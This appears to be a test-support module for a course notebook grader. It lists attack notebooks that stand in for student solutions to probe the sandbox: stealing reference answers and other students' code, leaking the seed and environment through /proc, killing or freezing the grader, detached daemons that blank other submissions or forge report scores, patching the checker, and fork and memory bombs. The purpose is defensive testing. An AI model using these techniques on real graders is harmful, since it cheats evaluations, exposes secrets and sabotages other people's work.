"""The attacks of issue 23 as data, and the notebooks that carry them (built at test time, never stored).

Each :class:`Attack` replaces the solution cell of one exercise (``target``) in a copy of a solution
notebook (``exercises/solutions/<notebook>.ipynb``) with hostile code, or mutates the notebook itself
(``mutate``, for the intake attacks). Placeholders in the source are filled in when the notebook is
built: ``@TOKEN@`` (a unique word put in the argv of every process the attack starts, so the test can
find survivors), ``@PORT@`` (the test's local "answer server"), ``@CANARY_NAME@``.

Attack code never uses a name the source rules forbid unless the attack is about that rule: the point
is to get past the text check and be stopped by the sandbox. Processes an attack starts only ever
target the grader that runs it (found through its own ancestors), never another test on the machine.
"""
from __future__ import annotations

import copy
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from grading_helpers import META, solution_notebook

SEED = 918273645          # unusual, so its digits cannot appear by chance
TIMEOUT = 3.0             # per exercise; the looping attacks cost this much
CANARY_NAME = "BC_ATTACK_GRADER_SECRET"   # put in the grader's environment by the test

# ---------------------------------------------------------------------------------------------------
# Snippets shared by the attack sources (plain Python run by the grader's child process).

TRUE_SIGMOID = '''
def _true_sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
'''

# The grader processes above this child: walk the parents while their command line is the grader's.
ANCESTORS = '''
import os as _os

def _grader_ancestors():
    """[(pid, argv)] of the grader processes above this one (stops at the first that is not one)."""
    out, pid = [], _os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                argv = [a.decode(errors="replace") for a in fh.read().split(b"\\0") if a]
            with open(f"/proc/{pid}/status") as fh:
                ppid = int([line for line in fh if line.startswith("PPid:")][0].split()[1])
        except (OSError, IndexError, ValueError):
            break
        if not any(a.startswith("backprop_course.") or a.endswith("backprop-course") for a in argv):
            break
        out.append((pid, argv))
        pid = ppid
    return out

def _grader_files(suffix):
    """Files named on the graders' command lines (absolute paths), e.g. the submissions."""
    found = []
    for pid, argv in _grader_ancestors():
        try:
            cwd = _os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            cwd = "/"
        for i, a in enumerate(argv):
            if a.endswith(suffix):
                found.append(_os.path.join(cwd, a))
            if suffix == "--out" and a == "--out" and i + 1 < len(argv):
                found.append(_os.path.join(cwd, argv[i + 1]))
    return list(dict.fromkeys(found))
'''

# Import a stolen source text as a module without exec/compile: write it to a file and import it.
IMPORT_TEXT = '''
import os as _os2, sys as _sys2, tempfile as _tempfile, pkgutil as _pkgutil

def _import_text(text, name, prefix="import numpy as np\\n"):
    folder = _tempfile.mkdtemp(prefix="stolen-")
    with open(_os2.path.join(folder, name + ".py"), "w") as fh:
        fh.write(prefix + text)
    _sys2.path.insert(0, folder)
    return _pkgutil.resolve_name(name)
'''

SPAWN = '''
import subprocess as _sp, sys as _sys3
_SPAWNED = []

def _spawn(code, *extra, new_session=True):
    """Start `python -c code TOKEN extra...` once per process; its argv carries the test's token."""
    proc = _sp.Popen([_sys3.executable, "-c", code, "@TOKEN@", *extra], stdin=_sp.DEVNULL,
                     stdout=_sp.DEVNULL, stderr=_sp.DEVNULL, start_new_session=new_session)
    _SPAWNED.append(proc.pid)
    return proc
'''

PUBLIC_SIGMOID = '''
_PUBLIC = [[0.11920292202211755, 0.5, 0.8807970779778823],
           [[0.7310585786300049, 0.3775406687981454], [0.9525741268224334, 0.01798620996209156]]]
'''

WRONG_SIGMOID = "def sigmoid(z):\n    return np.asarray(z, dtype=float) * 0.0 + 0.5\n"

# ---------------------------------------------------------------------------------------------------
# The daemons the containment attacks leave behind (run as `python -c CODE TOKEN args...`).

BLANK_DAEMON = '''
import json, sys, time
paths = sys.argv[2:]
blank = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []})
end = time.time() + 25
while time.time() < end:
    for p in paths:
        try:
            with open(p) as fh:
                if fh.read() == blank:
                    continue
            with open(p, "w") as fh:
                fh.write(blank)
        except OSError:
            pass
    time.sleep(0.02)
'''

REPORT_DAEMON = '''
import json, os, sys, time
paths = sys.argv[2:]
end = time.time() + 25
while time.time() < end:
    for p in paths:
        try:
            with open(p) as fh:
                text = fh.read()
            if "FORGED-BY-ATTACK" in text or not text.strip():
                continue
            doc = json.loads(text)
            for sub in doc.get("submissions", []):
                sub["score"] = sub["max_score"] = 1000.0
                sub["error"] = "FORGED-BY-ATTACK"
            with open(p, "w") as fh:
                fh.write(json.dumps(doc))
        except (OSError, ValueError):
            pass
    time.sleep(0.02)
'''

KILLER_DAEMON = '''
import os, signal, sys, time
graders = {int(p) for p in sys.argv[2:]}
me = os.getpid()
end = time.time() + 25
while time.time() < end:
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == me:
            continue
        try:
            with open(f"/proc/{name}/status") as fh:
                ppid = int([l for l in fh if l.startswith("PPid:")][0].split()[1])
            with open(f"/proc/{name}/cmdline", "rb") as fh:
                cmd = fh.read()
        except (OSError, IndexError, ValueError):
            continue
        if ppid in graders and b"backprop_course.grading" in cmd:
            try:
                os.kill(int(name), signal.SIGKILL)
            except OSError:
                pass
    time.sleep(0.01)
'''

# Leaks: each defines _found() (what it prints and raises) and _secret() (what it must never get);
# SIDE_CHANNEL also answers right on every other call when it got a secret, so stripping the text of
# the feedback is not enough: the score itself would tell the learner.
SIDE_CHANNEL = """
_calls = []
def sigmoid(z):
    _calls.append(1)
    found, secret = _found(), _secret()
    print("LEAK", found)
    if secret and len(_calls) % 2 == 0:
        return _true_sigmoid(z)
    raise ValueError("LEAK " + " ".join(secret + found))
"""

SEED_FROM_CMDLINE = """
def _found():
    out = []
    for pid, argv in _grader_ancestors():
        out += [argv[i + 1] for i, a in enumerate(argv[:-1]) if a == "--seed"]
    for p in ("self", str(_os.getppid())):
        try:
            with open(f"/proc/{p}/cmdline", "rb") as fh:
                out.append(fh.read().replace(bytes(1), b" ").decode(errors="replace"))
        except OSError:
            pass
    return out

def _secret():
    return [s for s in _found() if "--seed" in s or s.isdigit()]
"""

PARENT_ENVIRON = """
def _found():
    out = []
    for pid in [_os.getppid()] + [p for p, a in _grader_ancestors()]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                out += [e.decode(errors="replace") for e in fh.read().split(bytes(1)) if e]
        except OSError:
            pass
    return [e for e in out if "SECRET" in e or ("SEED" in e.upper() and not e.startswith("PYTHONHASHSEED="))]

def _secret():
    return _found()
"""

OWN_ENVIRON = """
import os
def _found():
    return [f"{k}={v}" for k, v in os.environ.items()
            if "SECRET" in k or ("SEED" in k.upper() and k != "PYTHONHASHSEED")]

def _secret():
    return _found()
"""

GC_SEED = """
import gc, json
def _dicts():
    return [o for o in gc.get_objects()
            if isinstance(o, dict) and ("cases" in o or "seed" in o or "nonce" in o or "expected" in o)]

def _found():
    out = []
    for o in _dicts():
        text = json.dumps({k: o[k] for k in ("cases", "expected", "seed", "nonce") if k in o}, default=str)
        out.insert(0, text) if ("cases" in o or "expected" in o) else out.append(text)
    return out

def _secret():
    return [json.dumps(o.get("seed", o.get("expected")), default=str) for o in _dicts()
            if (isinstance(o.get("seed"), int) and not isinstance(o.get("seed"), bool))
            or isinstance(o.get("expected"), (list, dict, float))]
"""

READ_STDIN = """
import os, select
_read = []
def _found():
    if not _read:
        _read.append("")
        for fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
            try:
                if fd in (1, 2) or not select.select([fd], [], [], 0.05)[0]:
                    continue
                _read.append(os.read(fd, 1 << 20).decode(errors="replace"))
            except (OSError, ValueError):
                pass
    return [r for r in _read if r]

def _secret():
    return [r for r in _found() if "seed" in r.lower()]
"""

SLEEPER = "import time; time.sleep(60)"
DOUBLE_FORK = "import os, time\nos.setsid()\nif os.fork():\n    os._exit(0)\ntime.sleep(60)\n"
FORK_BOMB = ("import os, time\nfor _ in range(5):\n    try:\n        os.fork()\n    except OSError:\n"
             "        break\ntime.sleep(60)\n")


@dataclass
class Attack:
    """One attack: what it replaces, what it is expected to score, where it is graded."""

    name: str
    tries: str                          # one line: what it tries
    source: str | None = None           # new source of the target's solution cell (None: keep it)
    notebook: str = "ex03_neuron"
    target: str = "ex03.sigmoid"
    score: float = 0.0                  # the target's expected score after the fix
    group: str = "batch"                # which grading run it belongs to (see test_attacks.py)
    mutate: Callable | None = None      # for intake attacks: nb -> nb (after the cell is replaced)
    spawns: bool = False                # starts processes whose argv holds the token
    intake: bool = False                # a malformed notebook: "graded" or an "error" with a reason
    victim: bool = False                # graded with a second, honest submission that must keep full marks
    fmt: str = "ipynb4"                 # "ipynb3": written as an nbformat 3 file

    @property
    def slug(self) -> str:
        return self.name.replace(" ", "_")


# ---------------------------------------------------------------------------------------------------
# Intake mutations

def _meta_exercises_int(nb):
    nb.metadata[META]["exercises"] = 5
    return nb


def _duplicate_ids(nb):
    nb.metadata[META]["exercises"] = ["ex03.sigmoid"] * 3 + list(nb.metadata[META]["exercises"])
    extra = []
    for cell in nb.cells:
        meta = cell.metadata.get(META, {})
        extra.append(cell)
        if meta.get("exercise") == "ex03.sigmoid" and meta.get("role") in ("solution", "check"):
            extra.append(copy.deepcopy(cell))
    nb.cells = extra
    return nb


def _foreign_ids(nb):
    """Add the ex11 and ex02 exercises' model answers to an ex03 notebook: points it was not set."""
    nb.metadata[META]["exercises"] = list(nb.metadata[META]["exercises"]) + ["ex11.xavier_uniform", "ex02.graph"]
    for stem, ex_id in (("ex11_init", "ex11.xavier_uniform"), ("ex02_graphs", "ex02.graph")):
        other = solution_notebook(stem)
        for cell in other.cells:
            meta = cell.metadata.get(META, {})
            if meta.get("exercise") == ex_id and meta.get("role") in ("solution", "check"):
                nb.cells.append(copy.deepcopy(cell))
    return nb


MINUS_SIGNS = "x = " + "-" * 100_000 + "1\n"

# ---------------------------------------------------------------------------------------------------
# The table

ATTACKS: list[Attack] = [
    # ---- reading references -------------------------------------------------------------------
    Attack("import the reference", "`from backprop_course.grading.exercises.ex03_neuron import _sigmoid`",
           "def sigmoid(z):\n    from backprop_course.grading.exercises.ex03_neuron import _sigmoid\n"
           "    return _sigmoid(z)\n"),
    Attack("registry reference", "`registry.get('ex06.mlp_backward').reference(...)` (3 points)",
           "def mlp_backward(weights, biases, X, T):\n    from backprop_course.grading.exercises import registry\n"
           "    return registry.get('ex06.mlp_backward').reference(weights, biases, X, T)\n",
           notebook="ex06_backprop", target="ex06.mlp_backward"),
    Attack("pkgutil string import", "the engine through a string: `pkgutil.resolve_name('backprop_course.eng' + 'ine...')`",
           "import pkgutil\ndef sigmoid(z):\n"
           "    act = pkgutil.resolve_name('backprop_course.eng' + 'ine.activ' + 'ations:get_act' + 'ivation')\n"
           "    return act('sigmoid')(np.asarray(z, dtype=float))\n"),
    Attack("builtins dict import", "`builtins.__dict__['__imp' + 'ort__']` (the text rule's own example)",
           "import builtins\ndef sigmoid(z):\n    imp = builtins.__dict__['__imp' + 'ort__']\n"
           "    mod = imp('backprop_course.grading.exercises.ex03_neuron', fromlist=['_sigmoid'])\n"
           "    return mod._sigmoid(z)\n"),
    Attack("getattr_static import", "`inspect.getattr_static(builtins, '__imp' + 'ort__')`: no forbidden name",
           "import builtins, inspect\ndef sigmoid(z):\n    imp = inspect.getattr_static(builtins, '__imp' + 'ort__')\n"
           "    mod = imp('backprop_course.grading.exercises.ex03_neuron', fromlist=['_sigmoid'])\n"
           "    return mod._sigmoid(z)\n"),
    Attack("pickle global import", "a hand-made pickle whose GLOBAL opcode imports the reference",
           "import pickle\ndef sigmoid(z):\n"
           "    ref = pickle.loads(b'cbackprop_course.grading.exercises.ex03_neuron\\n_sigmoid\\n.')\n"
           "    return ref(z)\n"),
    Attack("gc sys.modules", "find sys.modules with gc, then its importlib (no forbidden name)",
           "import gc\ndef sigmoid(z):\n"
           "    table = next(o for o in gc.get_objects() if isinstance(o, dict) and 'sys' in o and 'builtins' in o\n"
           "                 and 'importlib' in o)\n"
           "    mod = table['importlib'].import_module('backprop_course.grading.exercises.ex03_neuron')\n"
           "    return mod._sigmoid(z)\n"),
    Attack("exercise source", "read grading/exercises/ex03_neuron.py, fix its imports, write it out and import it",
           IMPORT_TEXT + "import backprop_course\n_stolen = []\ndef sigmoid(z):\n    if not _stolen:\n"
           "        path = _os2.path.join(_os2.path.dirname(backprop_course.__file__), 'grading', 'exercises',\n"
           "                              'ex03_neuron.py')\n"
           "        with open(path) as fh:\n            text = fh.read()\n"
           "        text = text.replace('from ...', 'from backprop_course.').replace('from .. import',\n"
           "                            'from backprop_course.grading import').replace('from ..', 'from backprop_course.grading.')\n"
           "        text = text.replace('from . import', 'from backprop_course.grading.exercises import')\n"
           "        _stolen.append(_import_text(text, 'stolen_ex03_source', prefix=''))\n"
           "    return _stolen[0]._sigmoid(z)\n"),
    Attack("exercise pyc", "unmarshal grading/exercises/__pycache__/ex03_neuron.*.pyc and run it as a function",
           "import glob, marshal, types, os\nimport backprop_course\n_stolen = {}\ndef sigmoid(z):\n"
           "    if not _stolen:\n"
           "        folder = os.path.join(os.path.dirname(backprop_course.__file__), 'grading', 'exercises', '__pycache__')\n"
           "        with open(sorted(glob.glob(os.path.join(folder, 'ex03_neuron.*.pyc')))[0], 'rb') as fh:\n"
           "            code = marshal.loads(fh.read()[16:])\n"
           "        _stolen.update({'__name__': 'stolen_pyc', '__package__': 'backprop_course.grading.exercises'})\n"
           "        types.FunctionType(code, _stolen)()\n"
           "    return _stolen['_sigmoid'](z)\n"),
    Attack("solution notebook", "read the repository's exercises/solutions/ex03_neuron.ipynb and import its answer",
           IMPORT_TEXT + "import json\nimport backprop_course\n_stolen = []\ndef sigmoid(z):\n    if not _stolen:\n"
           "        root = _os2.path.dirname(_os2.path.dirname(backprop_course.__file__))\n"
           "        with open(_os2.path.join(root, 'exercises', 'solutions', 'ex03_neuron.ipynb')) as fh:\n"
           "            nb = json.load(fh)\n"
           "        cell = next(c for c in nb['cells'] if c['metadata'].get('backprop_course', {}).get('exercise')\n"
           "                    == 'ex03.sigmoid' and c['metadata']['backprop_course'].get('role') == 'solution')\n"
           "        _stolen.append(_import_text(''.join(cell['source']), 'stolen_ex03_solution'))\n"
           "    return _stolen[0].sigmoid(z)\n"),
    Attack("other submission", "read another submission of the same run (paths from the grader's argv) and import its answer",
           ANCESTORS + IMPORT_TEXT + "import json\n_stolen = []\ndef sigmoid(z):\n    if not _stolen:\n"
           "        for path in _grader_files('.ipynb'):\n"
           "            try:\n                with open(path) as fh:\n                    nb = json.load(fh)\n"
           "            except (OSError, ValueError):\n                continue\n"
           "            for c in nb.get('cells', []):\n"
           "                src = ''.join(c.get('source', ''))\n"
           "                if src.startswith('def sigmoid(') and 'np.exp' in src and 'stolen' not in src:\n"
           "                    _stolen.append(_import_text(src, 'stolen_other'))\n                    break\n"
           "            if _stolen:\n                break\n"
           "    return _stolen[0].sigmoid(z)\n", victim=True),

    # ---- leaking hidden values, the seed, the grader's environment ------------------------------
    Attack("exception text", "raise ValueError(f'{input} -> {expected}') on every case, hidden ones included",
           TRUE_SIGMOID + "def sigmoid(z):\n    z = np.asarray(z, dtype=float)\n"
           "    pairs = '; '.join(f'{a!r}->{b!r}' for a, b in zip(z.ravel().tolist(), _true_sigmoid(z).ravel().tolist()))\n"
           "    raise ValueError('LEAK ' + pairs)\n", group="leak"),
    Attack("printed output", "print every input and its correct output (and return it: an honest score)",
           TRUE_SIGMOID + "def sigmoid(z):\n    z = np.asarray(z, dtype=float)\n    out = _true_sigmoid(z)\n"
           "    print('LEAK in', repr(z.ravel().tolist()), 'out', repr(out.ravel().tolist()))\n"
           "    print(np.array2string(z, precision=8), np.array2string(out, precision=8))\n    return out\n",
           score=1.0, group="leak"),
    Attack("seed from cmdline", "the seed from /proc/<ppid>/cmdline (and its own argv); reported by text and by score",
           TRUE_SIGMOID + ANCESTORS + SEED_FROM_CMDLINE + SIDE_CHANNEL, group="leak"),
    Attack("parent environ", "the grader's environment from /proc/<ppid>/environ; reported by text and by score",
           TRUE_SIGMOID + ANCESTORS + PARENT_ENVIRON + SIDE_CHANNEL, group="leak"),
    Attack("own environment", "os.environ of the child (inherited from the grader); reported by text and by score",
           TRUE_SIGMOID + OWN_ENVIRON + SIDE_CHANNEL, group="leak"),
    Attack("gc seed", "walk gc.get_objects() for the job, a seed or expected values; reported by text and by score",
           TRUE_SIGMOID + GC_SEED + SIDE_CHANNEL, group="leak"),
    Attack("read stdin", "read standard input and every other open descriptor (where a job could still wait)",
           TRUE_SIGMOID + READ_STDIN + SIDE_CHANNEL, group="leak"),

    # ---- containment --------------------------------------------------------------------------
    Attack("kill the parent", "os.kill(os.getppid(), SIGKILL): with --jobs 2 the pool worker grading it",
           "import os, signal\ndef sigmoid(z):\n    os.kill(os.getppid(), signal.SIGKILL)\n"
           "    raise RuntimeError('attack done')\n", group="kill", victim=True),
    Attack("kill the grader", "SIGKILL the parent and every grader process above it (the command itself)",
           ANCESTORS + "import signal\ndef sigmoid(z):\n    targets = [p for p, a in _grader_ancestors()]\n"
           "    for pid in [_os.getppid()] + targets:\n        try:\n            _os.kill(pid, signal.SIGKILL)\n"
           "        except OSError:\n            pass\n    raise RuntimeError('attack done')\n",
           group="killall", victim=True),
    Attack("stop the parent", "SIGSTOP the parent and every grader process above it: the grader freezes",
           ANCESTORS + "import signal\ndef sigmoid(z):\n    targets = [p for p, a in _grader_ancestors()]\n"
           "    for pid in [_os.getppid()] + targets:\n        try:\n            _os.kill(pid, signal.SIGSTOP)\n"
           "        except OSError:\n            pass\n    raise RuntimeError('attack done')\n",
           group="stop", victim=True),
    Attack("fork bomb", "a bounded fork bomb (32 sleeping processes) in the child's own process group",
           SPAWN + "def sigmoid(z):\n    if not _SPAWNED:\n        _spawn(" + repr(FORK_BOMB) + ", new_session=False)\n"
           "    raise RuntimeError('attack done')\n", spawns=True),
    Attack("detached survivor", "start_new_session and double-forked sleepers that outlive grading",
           SPAWN + "def sigmoid(z):\n    if not _SPAWNED:\n        _spawn(" + repr(SLEEPER) + ")\n"
           "        _spawn(" + repr(DOUBLE_FORK) + ", new_session=False)\n    raise RuntimeError('attack done')\n",
           spawns=True),
    Attack("blank a victim", "a detached process blanks every other submission of the run while it is graded",
           ANCESTORS + SPAWN + "def sigmoid(z):\n    if not _SPAWNED:\n"
           "        _spawn(" + repr(BLANK_DAEMON) + ", *_grader_files('.ipynb'))\n    raise RuntimeError('attack done')\n",
           group="blank", victim=True, spawns=True),
    Attack("rewrite the report", "a detached process rewrites the report (--out) after the grader exits",
           ANCESTORS + SPAWN + "def sigmoid(z):\n    if not _SPAWNED:\n"
           "        _spawn(" + repr(REPORT_DAEMON) + ", *_grader_files('--out'))\n    raise RuntimeError('attack done')\n",
           group="report", victim=True, spawns=True),
    Attack("kill later children", "a detached process kills the grader's later children (the next exercises and submissions)",
           ANCESTORS + SPAWN + "def sigmoid(z):\n    if not _SPAWNED:\n"
           "        _spawn(" + repr(KILLER_DAEMON) + ", *[str(p) for p, a in _grader_ancestors()])\n"
           "    raise RuntimeError('attack done')\n",
           group="children", victim=True, spawns=True),
    Attack("setrlimit", "raise RLIMIT_AS back to unlimited, then map 8 GB (never touched) and answer",
           TRUE_SIGMOID + "import mmap, resource\ndef sigmoid(z):\n"
           "    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
           "    m = mmap.mmap(-1, 8 * 1024**3, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000)  # 0x4000: MAP_NORESERVE\n"
           "    m.close()\n    return _true_sigmoid(z)\n"),
    Attack("edit compare.py", "append to the installed grading/checking/compare.py: every later comparison passes",
           "import os\nimport backprop_course\n"
           "def sigmoid(z):\n"
           "    path = os.path.join(os.path.dirname(backprop_course.__file__), 'grading', 'checking', 'compare.py')\n"
           "    with open(path, 'a') as fh:\n"
           "        fh.write('\\n\\ndef compare_numbers(expected, actual, *a, **k):  # ATTACK\\n'\n"
           "                 '    return Comparison(True, 0.0, \"\")\\n')\n"
           "    raise RuntimeError('attack done')\n", group="compare"),
    Attack("network", "ask a helper on 127.0.0.1 for the answers (the test runs that helper)",
           "import json, socket\ndef sigmoid(z):\n    z = np.asarray(z, dtype=float)\n"
           "    with socket.create_connection(('127.0.0.1', @PORT@), timeout=1) as s:\n"
           "        s.sendall((json.dumps({'token': '@TOKEN@', 'z': z.tolist()}) + '\\n').encode())\n"
           "        reply = s.makefile().readline()\n"
           "    return np.array(json.loads(reply), dtype=float).reshape(z.shape)\n"),
    Attack("infinite loop", "loop forever in the function", "def sigmoid(z):\n    while True:\n        pass\n"),
    Attack("huge output", "print 30 MB in the cell and 5 MB per call (right answers: full marks)",
           TRUE_SIGMOID + "print('x' * 30_000_000)\ndef sigmoid(z):\n    print('y' * 5_000_000)\n"
           "    return _true_sigmoid(z)\n", score=1.0),
    Attack("memory exhaustion", "touch memory 256 MB at a time up to 6 GB; answers only if that worked",
           TRUE_SIGMOID + "_blocks = []\ndef sigmoid(z):\n    if not _blocks:\n"
           "        for _ in range(24):\n            _blocks.append(np.ones(2**25))\n"
           "    return _true_sigmoid(z)\n"),
    Attack("monkeypatch", "patch numpy's comparisons and the child's checker/codec modules, answer wrongly",
           "np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
           "np.testing.assert_allclose = lambda *a, **k: None\n"
           "try:\n    from backprop_course.grading.checking import compare\n    from backprop_course.grading.sandbox import codec\n"
           "    compare.compare_numbers = lambda *a, **k: compare.Comparison(True, 0.0, '')\n"
           "    _enc = codec.encode\n    codec.encode = lambda out: _enc(out)\n"
           "except ImportError:\n    pass\n" + WRONG_SIGMOID),
    Attack("call count", "hard-code the public answers by call order (calls 1 and 2), zeros after",
           PUBLIC_SIGMOID + "_calls = []\ndef sigmoid(z):\n    _calls.append(1)\n    if len(_calls) <= 2:\n"
           "        return np.array(_PUBLIC[len(_calls) - 1])\n    return np.zeros_like(np.asarray(z, dtype=float))\n",
           score=round(2 / 6, 4)),

    # ---- intake: malformed notebooks ------------------------------------------------------------
    Attack("metadata exercises 5", 'notebook metadata `"exercises": 5`', None, score=1.0,
           mutate=_meta_exercises_int, intake=True),
    Attack("minus signs", "100,000 minus signs in the exercise's cell: ast.parse runs out of memory",
           MINUS_SIGNS + TRUE_SIGMOID + "def sigmoid(z):\n    return _true_sigmoid(z)\n",
           intake=True),
    Attack("duplicate ids", "the same exercise id three times in the metadata and its cells twice", None,
           score=1.0, mutate=_duplicate_ids, intake=True),
    Attack("foreign ids", "ex11/ex02 model answers added to an ex03 notebook: points it was not set", None,
           score=1.0, mutate=_foreign_ids, intake=True),
    Attack("nbformat 3", "the solution written as an nbformat 3 file", None, score=1.0, intake=True, fmt="ipynb3"),
]

BY_NAME = {a.name: a for a in ATTACKS}
assert len(BY_NAME) == len(ATTACKS)


def build(attack: Attack, folder: Path, token: str, port: int) -> Path:
    """Write the attack's notebook in ``folder`` and return its path (the name starts with the stem)."""
    nb = copy.deepcopy(solution_notebook(attack.notebook))
    if attack.source is not None:
        source = attack.source.replace("@TOKEN@", token).replace("@PORT@", str(port))
        replaced = 0
        for cell in nb.cells:
            meta = cell.metadata.get(META, {})
            if meta.get("exercise") == attack.target and meta.get("role") == "solution":
                cell.source = source
                replaced += 1
        assert replaced == 1, (attack.name, replaced)
    if attack.mutate is not None:
        nb = attack.mutate(nb)
    path = folder / f"{attack.notebook}-attack-{attack.slug.replace('.', '')}.ipynb"
    if attack.fmt == "ipynb3":
        path.write_text(nbformat.writes(nbformat.convert(nb, 3), version=3), encoding="utf-8")
    else:
        nbformat.write(nb, path)
    return path


def victim(folder: Path, name: str, stem: str = "ex03_neuron") -> Path:
    """An honest submission (the model answers) that must keep full marks whatever its neighbour does."""
    path = folder / f"{stem}-victim-{name}.ipynb"
    nbformat.write(solution_notebook(stem), path)
    return path


def wrong_answer(folder: Path) -> Path:
    """ex03 with a wrong sigmoid: 2 of 3 points, unless the grader was tampered with."""
    nb = copy.deepcopy(solution_notebook("ex03_neuron"))
    for cell in nb.cells:
        meta = cell.metadata.get(META, {})
        if meta.get("exercise") == "ex03.sigmoid" and meta.get("role") == "solution":
            cell.source = WRONG_SIGMOID
    path = folder / "ex03_neuron-after-compare-attack.ipynb"
    nbformat.write(nb, path)
    return path

